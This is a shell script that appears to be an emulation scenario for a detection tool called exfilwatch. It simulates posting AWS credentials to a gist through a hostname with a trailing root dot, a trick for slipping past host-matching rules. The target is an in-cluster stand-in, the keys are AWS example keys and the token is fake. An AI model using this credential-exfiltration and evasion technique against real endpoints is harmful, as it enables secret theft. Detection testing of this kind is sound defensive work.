#!/bin/sh
# Emulates scenario curl-fqdn-trailing-dot-gist (examples/scenarios/curl-fqdn-trailing-dot-gist.yaml):
# AWS credentials posted to a gist through `https://api.github.com./gists`: the fully qualified name with its trailing dot.
#
# The gist goes to the forge-api stand-in with its host written fully qualified, DNS's root dot added after
# it (`http://forge-api.exfilwatch-emulation.svc.cluster.local.:8080/gists`): an absolute name, it resolves
# to the same Service, and exfilwatch should class it as the stand-in all the same. EMU_FORGE_URL must name
# the stand-in by its fully qualified name (the default does): a partial name with the root dot is not
# searched, and an IP address with it resolves nowhere. Safe version: the AWS credentials are AWS's
# documented example keys, the token is fake, and the gist API is the in-namespace forge-api stand-in
# (emu_check_target vets EMU_FORGE_URL, of which the dotted URL is the same host).
#
# Image: curlimages/curl:8.11.1
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl base64
emu_check_target "$EMU_FORGE_URL"
rest=${EMU_FORGE_URL#*://}
hostport=${rest%%/*}
base_path=${rest#"$hostport"}
host=${hostport%%:*}
host=${host%.}
case "$host" in
  *[!0-9.]*) ;;
  *) emu_die "EMU_FORGE_URL must name its host: '$host.' (an IP address with the root dot) resolves nowhere" ;;
esac
case "$host" in
  *.svc) emu_die "EMU_FORGE_URL must name its host fully qualified (...svc.cluster.local): '$host.' is not searched" ;;
esac
url="${EMU_FORGE_URL%%://*}://$host.${hostport#"${hostport%%:*}"}${base_path%/}/gists"
work="$EMU_WORKDIR/curl-fqdn-trailing-dot-gist"
rm -rf "$work"
HOME="$work/home"
emu_fake_secrets "$HOME"
emu_post_fake_aws_gist "$work" "$url"
rm -rf "$work"
emu_expect sensitive-read-then-push high
